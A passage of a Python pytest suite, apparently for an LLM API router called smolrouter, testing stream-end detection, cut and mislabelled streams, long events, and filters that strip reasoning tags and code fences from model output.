    (CHAT, FINISH, True), (CHAT, "[DONE] ", True), (CHAT, "", False), (CHAT, "[]", False),
    (CHAT, "x [DONE]", False), (CHAT, "7", False),
    ("/api/chat", {"message": {"content": '"done":true'}, "done": False}, False),
    ("/api/chat", {"done": True}, True), ("/api/generate", {"done": True}, True),
    (RESPONSES, {"type": "response.created", "response": {"error": None}}, False),
    (RESPONSES, {"type": "response.completed", "response": {"text": "x" * 9000}}, True),
    (RESPONSES, {"type": "response.failed"}, True),
    (RESPONSES, {"type": "response.incomplete"}, True),
    (ANTHROPIC, {"type": "content_block_stop"}, False), (ANTHROPIC, {"type": "message_stop"}, True),
    *((path, error, True) for path in (CHAT, ANTHROPIC, RESPONSES, "/api/chat", "/api/generate")
      for error in ({"error": "x"}, {"type": "error"}, {"object": "error"})),
])  # fmt: skip
def test_what_ends_a_stream(path: str, line: Any, ends: bool) -> None:
    data, protocol = encode_event(line), smolrouter.find_protocol(path)
    for end in EVENT_ENDS:
        for known in (path, "/v1/other"):
            rewriter = stream_filter(path=known)
            rewriter.feed(encode_event(TWO_WORDS[0]) + data.replace(b"\n\n", end))
            rewriter.feed(b": x\n\n")
            assert rewriter.complete == ends
    assert smolrouter.are_complete(protocol, smolrouter.LINES, [data[6:-1]]) == ends


# --- streams that are not called so ---------------------------------------------------

EVENT_STARTS: list[tuple[bytes, bool | None]] = [
    (b"", None), (b"d", None), (b"data", None), (b"data:", True), (b"event: x", True),
    (b"id:1", True), (b": ping", True), (b"\xef\xbb", None), (b"\xef\xbb\xbf", None),
    (b"\xef\xbb\xbfdata: x", True), (b"\r\n", None), (b"\ndata: x", True), (b"{", False),
    (b"[1]", False), (b"date: x", False), (b"Data: x", False), (b" data: x", False),
    (b"\xef\xbb\xbf{", False), (b"\xef\xbbx", False), (b"<html>", False), (b"x", False),
    (b"ret", None), (b"retry: 5", True), (b"return", False),
]  # fmt: skip


@pytest.mark.parametrize("start, is_stream", EVENT_STARTS)
def test_what_begins_like_events(start: bytes, is_stream: bool | None) -> None:
    assert smolrouter.begins_like_events(start) is is_stream


def miscalled(kind: str | None, pieces: Iterable[Step]) -> list[Step]:
    """Answer with a stream under some Content-Type, or under none."""
    head, *steps = stream_response(pieces, kind=kind or "x")
    return [head if kind else head.replace(b"Content-Type: x\r\n", b""), *steps]  # type: ignore


MISCALLED = [None, "text/plain; charset=utf-8", "application/json", "application/octet-stream"]


@pytest.mark.parametrize("kind", MISCALLED)
@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
@pytest.mark.parametrize("start", [b"", b"\xef\xbb\xbf", RAW_PING], ids=repr)
@pytest.mark.parametrize("several", [False, True])
def test_a_stream_under_another_name(
    kind: str | None, path: str, start: bytes, several: bool
) -> None:
    said = start + b"".join(chat_stream("<think>no</think>", "Hi", " you"))
    pieces: list[Step] = [said[:2], 0.05, said[2:4], 0.05, said[4:-40], 0.3, said[-40:]]
    steps = miscalled(kind, pieces)
    with (
        Upstream(lambda received: steps) as one,
        Upstream() as two,
        router_of_two(one.url, two.url) as router,
    ):
        model = "pair" if several else "m"
        port = router.port if several else default_router().port
        if not several:
            model = default_upstream().add_script(steps)
        got = request(port, "POST", path, example_request(path, model, True))
    assert (got.status, got.text, b"no" in got.content) == (200, "Hi you", False)
    wanted = "text/event-stream" if path == CHAT else "application/x-ndjson"
    assert got.get("Content-Type") == wanted
    assert got.get("X-Accel-Buffering") == "no"
    # It went out as it came in.
    assert got.pieces[-1][0] - got.pieces[0][0] > 0.1


@pytest.mark.parametrize("kind", MISCALLED)
def test_what_is_no_stream_keeps_its_name(kind: str | None) -> None:
    content = encode_json(completion({}, "<b> Hi"))
    model = default_upstream().add_script(miscalled(kind, [content[:1], 0.05, content[1:]]))
    got = post_chat(default_router(), model, stream=True)
    assert (got.status, got.content) == (200, content)
    assert got.get("Content-Type") == kind


# --- streams that end, and that are cut -----------------------------------------------


def stream_until_close(*pieces: bytes) -> list[Step]:
    """Answer with a stream that only the close ends."""
    return stream_response(pieces, framed=False)


CUT_STREAMS = {
    "after an event": (stream_until_close(*map(encode_event, TWO_WORDS)), False),
    "inside an event": (
        stream_until_close(encode_event(TWO_WORDS[0]), encode_event(TWO_WORDS[1])[:-9]),
        False,
    ),
    "inside a chunked event": (
        stream_response([encode_event(TWO_WORDS[0]), encode_event(TWO_WORDS[1])[:-9]]),
        False,
    ),
    "after the finish reason": (stream_until_close(*map(encode_event, [*TWO_WORDS, FINISH])), True),
    "after the mark": (stream_until_close(*map(encode_event, [*TWO_WORDS, "[DONE]"])), True),
    "after words that end nothing": (
        stream_until_close(*map(encode_event, [*TWO_WORDS, END_TALK])),
        False,
    ),
    "after the last of many": (
        stream_until_close(*map(encode_event, [*TWO_WORDS * 9, FINISH, {"choices": []}])),
        True,
    ),
}


@pytest.mark.parametrize("steps, whole", CUT_STREAMS.values(), ids=CUT_STREAMS.keys())
@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
def test_cut_stream_never_looks_complete(path: str, steps: list, whole: bool) -> None:
    model = default_upstream().add_script(steps)
    got = request(default_router().port, "POST", path, example_request(path, model, True))
    assert got.text.startswith("one ")
    assert ("error" in got.documents[-1]) == (not whole)
    assert got.whole == whole


def chunked_stream(*events: Any) -> list[Step]:
    """Answer with these events, each in a chunk, and without the last chunk."""
    return stream_response(map(encode_event, events), whole=False)


# A whole answer of each protocol, and what of it is its own end: nobody waits for more.
LAST_EVENTS: dict[str, tuple[list[Any], list[Any]]] = {
    CHAT: ([*text_deltas("Hi"), FINISH, RAW_USAGE_EVENT], ["[DONE]"]),
    "/v1/completions": ([{"choices": [{"index": 0, "text": "Hi"}]}, RAW_USAGE_EVENT], ["[DONE]"]),
    ANTHROPIC: (
        [{"type": "content_block_delta", "index": 0, "delta": {"text": "Hi"}}],
        [{"type": "message_stop"}],
    ),
    RESPONSES: (
        [{"type": "response.output_text.delta", "item_id": "m", "delta": "Hi"}],
        [{"type": "response.incomplete", "response": {"output": []}}],
    ),
    "/api/chat": ([*text_deltas("Hi"), FINISH, RAW_USAGE_EVENT], ["[DONE]"]),
    "/api/generate": ([*text_deltas("Hi"), FINISH, RAW_USAGE_EVENT], ["[DONE]"]),
}
SLOPPY_ENDS: dict[str, list[Step]] = {
    "stays open": [HANG],
    "stays open after more": [*encode_chunks(RAW_PING, RAW_DONE, end=b""), HANG],
    "closes": [CLOSE],
    "resets": [0.05, DROP],
    "cuts a chunk": [b"20\r\ndata: ", CLOSE],
}


@pytest.mark.parametrize("end", SLOPPY_ENDS.values(), ids=SLOPPY_ENDS)
@pytest.mark.parametrize("path", LAST_EVENTS)
def test_nobody_waits_for_what_follows_the_last_event(path: str, end: list[Step]) -> None:
    said, last = LAST_EVENTS[path]
    model = default_upstream().add_script([*chunked_stream(*said, *last), *end])
    asked = {"model": model, "messages": [], "prompt": "hi", "input": "hi", "stream": True}
    if path == "/api/chat":
        asked["messages"] = [{"role": "user", "content": "hi"}]
    got = request(default_router().port, "POST", path, asked, patience=PATIENCE)
    assert (got.status, got.whole) == (200, True) and b"error" not in got.content
    if path.startswith("/api/"):
        assert got.documents[-1]["done"] and got.documents[-1]["eval_count"] == 1
    else:
        assert encode_event(last[0]) in got.content
    # The connection ends, so that nobody else gets what may still come on it.
    assert wait_until(lambda: default_upstream().connection_of(model).closed)


@pytest.mark.parametrize("end", [[CLOSE], [0.05, DROP], [b"20\r\n", CLOSE]], ids=repr)
@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
@pytest.mark.parametrize("stream", [True, False])
def test_a_finish_and_a_close_are_an_end(path: str, stream: bool, end: list[Step]) -> None:
    steps = [*chunked_stream(*TWO_WORDS, FINISH), *end]
    model = default_upstream().add_script(steps)
    got = request(default_router().port, "POST", path, example_request(path, model, stream))
    assert (got.status, got.whole) == (200, True) and b"error" not in got.content
    if path != CHAT:
        assert (got.documents[-1] if stream else got.json)["done"]


@pytest.mark.parametrize("last", ["", "one"])
def test_a_choice_that_finishes_alone_ends_no_stream(last: str) -> None:
    choices = [*text_deltas("a"), *text_deltas("b", index=1), FINISH]
    if last:
        choices.append({"choices": [{"index": 1, "delta": {}, "finish_reason": "stop"}]})
    model = default_upstream().add_script([*chunked_stream(*choices), CLOSE])
    got = post_chat(default_router(), model, stream=True, n=2)
    assert got.whole == bool(last) and (b'"error"' in got.content) == (not last)


def test_a_last_chunk_that_comes_later_keeps_the_connection() -> None:
    with (
        Upstream(lambda r: [*chunked_stream(*TWO_WORDS, FINISH, "[DONE]"), 0.1, b"0\r\n\r\n"])
    ) as upstream, Router({"DEFAULT_UPSTREAM": upstream.url}) as router:  # fmt: skip
        for _ in range(3):
            assert post_chat(router, "m", stream=True).text == "one two"
            time.sleep(0.3)
        assert [c.requests for c in upstream.connections if c.requests] == [3]


@pytest.mark.parametrize("number", [3, 30])
def test_a_stream_may_end_with_comments(number: int) -> None:
    name = default_upstream().add_script(
        stream_until_close(*map(encode_event, [*TWO_WORDS, FINISH]), b": ping\n\n" * number)
    )
    got = post_chat(default_router(), name, stream=True)
    assert (got.status, got.text) == (200, "one two") and b"error" not in got.content


@pytest.mark.parametrize("end", [b"", b"\n"])
def test_a_last_event_without_its_end_is_not_lost(end: bytes) -> None:
    data = b"".join(chat_stream("Hello", " <b>"))[:-2] + end
    model = default_upstream().add_script(stream_response([data]))
    assert post_chat(default_router(), model, stream=True).content.rstrip() == data.rstrip()


# --- long events, events of several lines ---------------------------------------------


def test_long_event_before_the_first_answer_freezes_nobody() -> None:
    long = b"data: " + b"x" * (6 << 20) + b"\n\n"
    steps = stream_response([long, encode_event(FINISH)])
    with (
        Upstream(lambda r: steps) as one,
        Upstream() as two,
        router_of_two(one.url, two.url) as router,
    ):
        got = post_chat(router, "pair", stream=True)
    assert got.content == long + encode_event(FINISH)


def test_only_the_long_event_goes_unfiltered() -> None:
    long = encode_event({"image": "x" * (5 << 20)})
    said = {"choices": [{"index": 0, "delta": {"content": "<think>a</think>b"}}]}
    model = default_upstream().add_script(
        stream_response([long, encode_event(said), encode_event(FINISH)])
    )
    assert post_chat(default_router(), model, stream=True).text == "b"


def test_event_of_several_lines_stays_one() -> None:
    lines = (
        b'event: message\nid: 7\ndata: {"choices":[{"index":0,\n'
        b'data: "delta":{"content":"<think>a</think>b"}}]}\n\n'
    )
    got = post_chat(
        default_router(),
        default_upstream().add_script(stream_response([lines, encode_event(FINISH)])),
        stream=True,
    )
    start, _, rest = got.content.partition(b"\n\n")
    assert start.startswith(b"event: message\nid: 7\ndata: {") and start.count(b"\n") == 2
    assert b'"content":"b"' in start and rest == encode_event(FINISH)


# ======================================================================================
# 6  Text filters
# ======================================================================================
# A new filter gets a table of cases like THOUGHTS, tried at every split, and one test from end
# to end.

THOUGHTS = [
    # what the model says, what is seen, what was thought
    ("<think>a</think>b", "b", "a"),
    ("<think>a</think>\n\n  b", "b", "a"),
    ("\n<think>a</think>\n\nb", "\nb", "a"),
    ("b <think>a</think> c", "b  c", "a"),
    ("b\n<think>a</think>\n\nc\n", "b\n\n\nc\n", "a"),
    ("<think>a</think>\n<think>b</think>\nc", "c", "ab"),
    ("<think>never closed", "", "never closed"),
    ("<thinking_hard>a</thinking_hard>", "<thinking_hard>a</thinking_hard>", ""),
    ("a < b <thin", "a < b <thin", ""),
    ("<think>a < b </thin </think>c", "c", "a < b </thin "),
    ("<<think>a</think>b", "<b", "a"),
    ("<think><think>a</think>b", "b", "<think>a"),
    ("code:\n  if a:\n\tb\n", "code:\n  if a:\n\tb\n", ""),
    ("", "", ""),
]


@pytest.mark.parametrize("text, visible, thought", THOUGHTS)
def test_think_filter_at_every_split(text: str, visible: str, thought: str) -> None:
    rules = smolrouter.FilterRules(think=True)
    for pieces in every_split(text) if text else [[""]]:
        text_filter = smolrouter.TextFilter(rules)
        parts = [text_filter.feed(piece) for piece in pieces]
        parts.append(text_filter.feed("", last=True))
        assert "".join(part[0] for part in parts) == visible
        assert "".join(part[1] for part in parts) == thought
    assert smolrouter.filter_text(text, rules) == (visible, thought)


# Every family of tags: what opens a block of thinking and what closes it. The first line of a
# harmony answer is thinking, and its last message the answer.
FAMILIES = {
    "think": ("<think>", "</think>"),
    "upper case": ("<THINK>", "</Think>"),
    "thinking": ("<thinking>", "</thinking>"),
    "thought": ("<thought>", "</thought>"),
    "reasoning": ("<reasoning>", "</reasoning>"),
    "seed": ("<seed:think>", "</seed:think>"),
    "minimax": ("<mm:think>", "</mm:think>"),
    "mistral": ("[THINK]", "[/THINK]"),
    "kimi": ("◁think▷", "◁/think▷"),
    "gemma": ("<|channel>thought", "<channel|>"),
    "harmony": (
        "<|channel|>analysis<|message|>",
        "<|end|><|start|>assistant<|channel|>final<|message|>",
    ),
    "commentary": ("<|channel|>commentary<|message|>", "<|end|>"),
}
# Where such a block may stand: the text around `B`, which is the block, and what is visible. A `B`
# that is left there is the block as it is.
PLACED = {
    "opening": ("B\n\nYes", "Yes"),
    "opening after blanks": ("\n B\n\nYes", "\n Yes"),
    "middle": ("Yes B a < b", "Yes  a < b"),
    "middle, a line of its own": ("a\nB\n\nc\n", "a\n\n\nc\n"),
    "twice": ("B\nB\nc", "c"),
    "code after it": ("B```\n  a\n\n    b\n```\n", "```\n  a\n\n    b\n```\n"),
    "code before it": ("`a` ``b`` ~~~ \n```\nc\n```\nB", "`a` ``b`` ~~~ \n```\nc\n```\n"),
    "span": ("Write `B` there.", "Write `B` there."),
    "long span": ("Write ``a ` B`` there.", "Write ``a ` B`` there."),
    "a backtick is no span": ("5` long, B\nand `6`", "5` long, \nand `6`"),
    "fence": ("So:\n```xml\nB\n```\nB.", "So:\n```xml\nB\n```\n."),
    "fence of tildes": ("~~~\nB\n~~~\nB.", "~~~\nB\n~~~\n."),
    "fence in a list": ("- a\n  ```\n  B\n  ```\nB.", "- a\n  ```\n  B\n  ```\n."),
    "quoted fence": ("> ```\n> B\n> ```\nB.", "> ```\n> B\n> ```\n."),
    "longer fence": ("````md\n```\nB\n```\n````\nB.", "````md\n```\nB\n```\n````\n."),
    "fence to the end": ("```\nB\n", "```\nB\n"),
    "JSON": ('{"a": "B"}', '{"a": "B"}'),
    "JSON in a list": ('[{"a": "B"}]', '[{"a": "B"}]'),
    "no JSON": ("[1] says B.", "[1] says ."),
}
# Where the block is not closed.
UNCLOSED = {
    "unclosed": ("O hm", ""),
    "unclosed behind a text": ("Yes O `hm`", "Yes "),
    "unclosed in a span": ("The tag `O` opens.", "The tag `O` opens."),
    "unclosed in a fence": ("```\nO\n```\n`O`", "```\nO\n```\n`O`"),
    "unclosed, quoted": ('It says "O" (O).', 'It says "O" (O).'),
}
PLACED_THOUGHTS = [
    (name, family, text, visible)
    for name, family in FAMILIES.items()
    for text, visible in [*PLACED.values(), *UNCLOSED.values()]
]


def place(family: tuple[str, str], text: str) -> str:
    """Put the block of a family into a text where `B` stands, and its opening where `O` does."""
    opening, closing = family
    return text.replace("B", f"{opening}hm{closing}").replace("O", opening)


def parted(pieces: Iterable[str], **rules: bool) -> tuple[str, str]:
    """Return what is visible of a text in pieces, and what was thought."""
    text_filter = smolrouter.TextFilter(smolrouter.FilterRules(think=True, **rules))
    parts = [text_filter.feed(piece) for piece in pieces]
    parts.append(text_filter.feed("", last=True))
    return "".join(part[0] for part in parts), "".join(part[1] for part in parts)


def test_there_are_enough_places() -> None:
    assert len(PLACED_THOUGHTS) >= 120


@pytest.mark.parametrize("name, family, text, visible", PLACED_THOUGHTS)
def test_thinking_of_every_family_in_every_place(
    name: str, family: tuple[str, str], text: str, visible: str
) -> None:
    said = place(family, text)
    wanted = place(family, visible)
    for pieces in every_split(said):
        shown, thought = parted(pieces)
        assert shown == wanted
        assert ("hm" in thought) == (wanted != said)
    rules = smolrouter.FilterRules(think=True)
    assert smolrouter.filter_text(said, rules)[0] == wanted
    # The same in events, as the bytes that they are, with escapes and without.
    for escape in (False, True):
        for before in ((), ("Hi there", ", ", "you.\n")):
            if before and text.startswith(("B", "O", "{", "[{", "\n")):
                continue
            for pieces in ([said], re.split("(?=h)", said), [said[:1], said[1:]], list(said)):
                if name == "mistral" and pieces == list(said) and not text.startswith(("B", "O")):
                    # Behind a beginning without tags this family's are not looked for in parts.
                    continue
                data = b"".join(chat_stream(*before, *pieces, escape=escape))
                left = texts_in(filtered([data]), "choices", 0, "delta", "content")
                assert left == "".join(before) + wanted


HARMONY_CALL = (
    "<|start|>assistant<|channel|>commentary to=functions.f <|constrain|>json<|message|>"
    '{"a": "<think>b"}<|call|>'
)
HARMONY_ANALYSIS = "<|channel|>analysis<|message|>hm<|end|>"
SPECIAL_THOUGHTS = [
    # Gemma writes an empty block, or the header twice.
    ("<|channel>thought\n<channel|>Yes", "Yes", "\n"),
    ("<|channel>thought\n<|channel>thought\nhm<channel|>Yes", "Yes", "\n\nhm"),
    # A call of a tool is no thinking, and its arguments stay as they are.
    (HARMONY_ANALYSIS + HARMONY_CALL, HARMONY_CALL, "hm"),
    ("<|channel|>final<|message|>Yes `<|end|>`<|return|>", "Yes `<|end|>`", ""),
    ("<|start|>assistant<|message|>Yes<|end|>", "Yes", ""),
    (HARMONY_ANALYSIS + "<|start|>assistant<|channel|>commentary<|message|>more<|end|>"
     "<|start|>assistant<|channel|>final<|message|>\nYes", "Yes", "hmmore"),
    ("<|channel|>analysis<|message|>hm<|channel|>final<|message|>Yes", "Yes", "hm"),
    ("a <|end|> b <|return|>", "a <|end|> b <|return|>", ""),
    ("The <|channel|>analysis is text.", "The <|channel|>analysis is text.", ""),
    # Code in thinking does not count, and not all that looks like code is some.
    ("<think>```\na</think>b <think>c</think>", "b ", "```\nac"),
    ("```<think>``` <think>a</think>\n<think>b</think>", "```<think>``` <think>a</think>\n", "b"),
    ("a ```b\n<think>c</think>", "a ```b\n", "c"),
    ("```\na\n``` b\n<think>", "```\na\n``` b\n<think>", ""),
    ("`a\n<think>b</think>`c", "`a\n`c", "b"),
    ("`<think>" + "x" * 5000 + "`", "`", "x" * 5000 + "`"),
    # What closes nothing is text, and so is what another family closes.
    ("a </think> b", "a </think> b", ""),
    ("<think>a</thinking>b</think>c", "c", "a</thinking>b"),
    ("<thinking_hard> <thinks> <Think hard> [think] [Think]",) * 2 + ("",),
    ("‘<think>’ “</think>” «<think>» (</think>)",) * 2 + ("",),
    ('"<think>a"</think>b', '"b', 'a"'),
]  # fmt: skip


@pytest.mark.parametrize("text, visible, thought", SPECIAL_THOUGHTS)
def test_special_thinking_at_every_split(text: str, visible: str, thought: str) -> None:
    splits = every_split(text) if len(text) < 1000 else [[text], [text[:9], text[9:]], list(text)]
    for pieces in splits:
        assert parted(pieces) == (visible, thought)
    assert smolrouter.filter_text(text, smolrouter.FilterRules(think=True)) == (visible, thought)


CLOSED_ONLY = [
    # what a whole answer says whose template opened the block, what is visible
    ("hm\n</think>\n\nYes", "Yes"),
    ("hm</think>\nYes", "Yes"),
    ("hm</think> \r\nYes", "Yes"),
    ("hm\n</think>", ""),
    ("hm\n[/THINK]\nYes", "Yes"),
    ("hm\n<channel|>\nYes <think>no</think>", "Yes "),
    ("`a` ```b``` hm\n</THINK>\nYes\n</think>\n", "Yes\n</think>\n"),
    # what it says about tags
    ("hm</think>Yes", None),
    ("It ends with </think>", None),
    ("It ends with `</think>`\nand\n```\n</think>\n```\n", None),
    ('It ends with "</think>"\n', None),
    ('{"a":\n"</think>\n"}', None),
    ("a\n```\nb\n</think>\n", None),
]


@pytest.mark.parametrize("text, visible", CLOSED_ONLY)
def test_close_without_an_opening(text: str, visible: str | None) -> None:
    rules = smolrouter.FilterRules(think=True)
    whole = smolrouter.TextFilter(rules, whole=True)
    shown, thought = whole.feed(text, last=True)
    assert shown == (text if visible is None else visible)
    assert whole.opened == (None if visible is None else True)
    assert ("hm" in thought) == (visible is not None)
    # In a stream it is too late, but it tells of the next ones.
    for pieces in every_split(text):
        stream = smolrouter.TextFilter(rules)
        shown = "".join(stream.feed(piece)[0] for piece in pieces) + stream.feed("", last=True)[0]
        assert shown == text.replace("<think>no</think>", "")
        assert stream.opened == whole.opened


@pytest.mark.parametrize("said, visible, thought", [
    ("hm</think>\n\nYes", "Yes", "hm"), ("hm `a` ◁/think▷Yes", "Yes", "hm `a` "),
    ("\n<think>hm</think>Yes", "\nYes", "hm"), ("Yes, all of it", "Yes, all of it", ""),
    (HARMONY_ANALYSIS + "Yes", "Yes", "hm"), ("", "", ""), ("a <think>", "a ", ""),
    ("</think>Yes", "Yes", ""), ("x" * 66_000 + "</think>\nYes",) * 2 + ("",),
], ids=range(9))  # fmt: skip
def test_text_that_may_have_begun_inside(said: str, visible: str, thought: str) -> None:
    if len(said) < 1000:
        for pieces in every_split(said) if said else [[""]]:
            assert parted(pieces, opened=True) == (visible, thought)
    pieces = [said[at : at + 997] for at in range(0, len(said), 997)]
    assert parted(pieces, opened=True) == parted([said], opened=True) == (visible, thought)


def test_nothing_of_what_may_be_thought_leaves_before_its_end() -> None:
    text_filter = smolrouter.TextFilter(smolrouter.FilterRules(think=True, opened=True))
    assert [text_filter.feed(piece)[0] for piece in ("h", "m", "</thin", "k>Y", "es")] == [
        "", "", "", "Y", "es"
    ]  # fmt: skip
    assert text_filter.opened
    text_filter = smolrouter.TextFilter(smolrouter.FilterRules(think=True, opened=True))
    held = [text_filter.feed("x" * 1024)[0] for _ in range(100)]
    assert "".join(held) == "x" * 102_400 and not any(held[:63]) and not text_filter.opened


def test_every_tag_has_a_mark_that_is_looked_for() -> None:
    headers = ["".join(tags[0] for tags in header) for header in smolrouter.HARMONY_HEADERS]
    tags = [*smolrouter.THINK_TAGS, *smolrouter.THINK_TAGS.values(), *smolrouter.HARMONY_ENDS]
    for tag in (*tags, *headers):
        assert smolrouter.may_hold_tag(tag.encode()), tag
        assert smolrouter.MARK.match(tag) and smolrouter.TOKEN.match(tag), tag


FENCES = [
    ('```json\n{"a": 1}\n```', '{"a": 1}\n'),
    ('Here:\n```json\n{"a":\n  1}\n```\nDone.', 'Here:\n{"a":\n  1}\nDone.'),
    ("  ```JSON \r\n[]\r\n  ``` \r\nx", "[]\r\nx"),
    ("```python\nx = 1\n```\n", "```python\nx = 1\n```\n"),
    ("```\nplain\n```\n", "```\nplain\n```\n"),
    ("```python\n```json\n```\n[]", "```python\n```json\n```\n[]"),
    ("inline ```json\n[]\n```", "inline ```json\n[]\n```"),
    ("```json\n[1,\n", "[1,\n"),
    ("a ` b `` c ``` d", "a ` b `` c ``` d"),
    # A fence of more backticks is closed by as many, so that it can show blocks with fewer.
    ("````md\n```json\n[]\n```\n````\n```json\n[]\n```\n", "````md\n```json\n[]\n```\n````\n[]\n"),
    ("````json\n[]\n```\n````\nx", "[]\n```\nx"),
    ("```json\n[]\n````\n```\nx\n```\n", "[]\n```\nx\n```\n"),
]


@pytest.mark.parametrize("text, visible", FENCES)
def test_fence_filter_at_every_split(text: str, visible: str) -> None:
    rules = smolrouter.FilterRules(fences=True)
    for pieces in every_split(text):
        text_filter = smolrouter.TextFilter(rules)
        parts = [text_filter.feed(piece)[0] for piece in pieces]
        assert "".join([*parts, text_filter.feed("", last=True)[0]]) == visible


def test_a_hundred_thousand_tags_take_linear_time() -> None:
    rules = smolrouter.FilterRules(think=True)
    for text in ("<think>" * 100_000, "<think" * 100_000, "<" * 500_000):
        smolrouter.filter_text(text, rules)


@fuzz(
    lambda st: {
        "bits": lists_of_bits(st, TEXT_BITS, 16),
        "fences": st.booleans(),
        "opened": st.booleans(),
    }
)
def test_fuzz_filters(bits: list[str], fences: bool, opened: bool) -> None:
    """However a text is split, what is seen and what was thought are the same."""
    text = "".join(bits)
    rules = smolrouter.FilterRules(think=True, fences=fences, opened=opened)
    seen = set()
    for pieces in (bits, [text], list(text)):
        feed = smolrouter.TextFilter(rules).feed
        said = [*(feed(piece) for piece in pieces), feed("", last=True)]
        seen.add(("".join(a for a, _ in said), "".join(b for _, b in said)))
    assert len(seen) == 1
    ((visible, thought),) = seen
    assert len(visible) + len(thought) <= len(text)
    assert fences or smolrouter.TAG.search(text) or (visible, thought) == (text, "")


# --- thinking, end to end -------------------------------------------------------------

THINKING_TEXTS = ("<think>", "hidden\n", "</thi", "nk>", "\n\n", "Hé", " a < b <", "b> c")
VISIBLE = "Hé a < b <b> c"


@pytest.mark.parametrize("path", [CHAT, "/api/chat"])
@pytest.mark.parametrize("escape", [False, True])
def test_thinking_at_every_split_of_the_stream(path: str, escape: bool) -> None:
    data = b"".join(chat_stream(*THINKING_TEXTS, escape=escape))
    document = {**EXAMPLE_REQUESTS[path], "stream": True}

    def split(at: int) -> tuple[str, bytes]:
        pieces = [s for piece in split_at(data, at) for s in (piece, 0.002)]
        model = default_upstream().add_script(stream_response(pieces))
        got = request(default_router().port, "POST", path, {**document, "model": model})
        return got.text, got.content if path == CHAT else b""

    seen = map_in_threads(split, range(1, len(data), 1 if path == CHAT else 7))
    assert {text for text, _ in seen} == {VISIBLE}
    assert len({content for _, content in seen}) == 1


def test_thinking_at_every_split_of_the_bytes_on_the_wire() -> None:
    data = b"".join(s for s in sse_response(chat_stream(*THINKING_TEXTS)) if isinstance(s, bytes))

    def split(at: int) -> str:
        model = default_upstream().add_script([data[:at], 0.002, data[at:]])
        return post_chat(default_router(), model, stream=True).text

    assert set(map_in_threads(split, range(1, len(data), 2))) == {VISIBLE}


def test_thinking_split_into_deltas_at_every_place() -> None:
    text = "<think>hidden</think>\nshown </think_> <thinking_hard> <b>"
    shown = "shown </think_> <thinking_hard> <b>"

    def split(*at: int) -> str:
        model = default_upstream().add_script(
            sse_response(chat_stream(*(p.decode() for p in split_at(text.encode(), *at))))
        )
        return post_chat(default_router(), model, stream=True).text

    twice = [(a, b) for a in range(1, 24) for b in range(a, 26, 3)]
    assert set(map_in_threads(split, range(1, len(text)))) == {shown}
    assert set(map_in_threads(split, *zip(*twice, strict=True))) == {shown}
    assert split(*range(1, len(text))) == shown


def test_thinking_split_into_deltas_after_plain_text() -> None:
    text = "a <think>hidden</think> b <thin"

    def split(*at: int) -> str:
        pieces = ["Hi ", *(p.decode() for p in split_at(text.encode(), *at))]
        model = default_upstream().add_script(sse_response(chat_stream(*pieces)))
        return post_chat(default_router(), model, stream=True).text

    everywhere = range(1, len(text))
    assert set(map_in_threads(split, everywhere)) == {split(*everywhere)} == {"Hi a  b <thin"}


WHOLE_ANSWERS = {
    "<think>hidden</think>\n\nshown": "shown",
    "shown <think>hidden</think> too": "shown  too",
    "hidden</think>\nshown": "shown",
    "shown <think>hidden": "shown ",
    "<think>a</think>shown<think>b</think>": "shown",
    "  keep   the\n\n  white\tspace  ": "  keep   the\n\n  white\tspace  ",
    "<think>a</think>```\n  code\n\n    more\n```\n": "```\n  code\n\n    more\n```\n",
    "<thinking_hard>shown</thinking_hard>": "<thinking_hard>shown</thinking_hard>",
}


@pytest.mark.parametrize("said", WHOLE_ANSWERS)
def test_thinking_in_a_whole_answer(said: str) -> None:
    for path, kind in ((CHAT, "chat"), ("/v1/completions", "text")):
        model = default_upstream().add_script(json_response(completion({}, said, kind)))
        got = request(
            default_router().port, "POST", path, {**EXAMPLE_REQUESTS[path], "model": model}
        )
        assert got.text == WHOLE_ANSWERS[said]


@pytest.mark.parametrize("path", ["/v1/completions", "/api/generate"])
def test_thinking_in_streamed_text(path: str) -> None:
    texts = [{"choices": [{"index": 0, "text": t}]} for t in THINKING_TEXTS]
    model = default_upstream().add_script(sse_response([*texts, "[DONE]"]))
    got = request(
        default_router().port, "POST", path, {"model": model, "prompt": "hi", "stream": True}
    )
    assert got.text == VISIBLE


def test_thinking_in_very_long_events() -> None:
    long = "x" * 1_000_000
    texts = ("<think>" + long, long + "</think>", "\n" + long, long + "<thi", "ng>")
    model = default_upstream().add_script(sse_response(chat_stream(*texts)))
    assert post_chat(default_router(), model, stream=True).text == long + long + "<thing>"
    unclosed = "<think>" * 100_000 + "<" * 100_000
    for said in (unclosed, "shown" + unclosed):
        model = default_upstream().add_script(sse_response(chat_stream(said)))
        assert post_chat(default_router(), model, stream=True).text == said.partition("<")[0]
        model = default_upstream().add_script(json_response(completion({}, said)))
        assert post_chat(default_router(), model).text == said.partition("<")[0]


def test_thinking_elsewhere_stays() -> None:
    said = "<think>kept</think>"
    call = {"name": "f", "arguments": encode_json({"a": said}).decode()}
    delta = {"tool_calls": [{"index": 0, "function": call}], "reasoning_content": said}
    events = [encode_event({"choices": [{"index": 0, "delta": delta}]}), encode_event("[DONE]")]
    got = post_chat(
        default_router(), default_upstream().add_script(sse_response(events)), stream=True
    )
    assert got.content == b"".join(events)
    name = default_upstream().add_script(whole_response(said.encode(), kind="text/html"))
    assert request(default_router().port, "GET", f"/v1/{name}").content == said.encode()


def test_thinking_goes_however_deep_the_rest_is() -> None:
    said = encode_json(completion({}, "<think>secret</think>ok"))[:-1]
    said += b',"x":' + b"[" * 250 + b"]" * 250 + b"}"
    name = default_upstream().add_script(whole_response(said, kind="application/json"))
    for path in (CHAT, "/api/chat"):
        got = request(default_router().port, "POST", path, {**example_request(path, name, False)})
        assert got.status == 200 and b"secret" not in got.content and b"ok" in got.content


def test_content_beside_the_answer_does_not_begin_it() -> None:
    found = {"search_results": [{"content": "found"}]}
    for first in (
        {"choices": [{"index": 0, "delta": {"content": ""}}], **found},
        {"choices": [{"index": 0, "delta": {"reasoning": {"content": "hm"}}}]},
    ):
        events = [first, *text_deltas("<think>", "no", "</think>", "\n\nyes"), "[DONE]"]
        got = post_chat(
            default_router(),
            default_upstream().add_script(sse_response([encode_event(e) for e in events])),
            stream=True,
        )
        assert got.text == "yes"


ABOUT_TAGS = """To hide a model's thoughts, look for `<think>` and `</think>`:

```html
<think>The user says hi.</think>
<p>Hi!</p>
```

Other models write `[THINK]`, `<|channel>thought` or "<thought>"; the last line may be just

    </p>
~~~
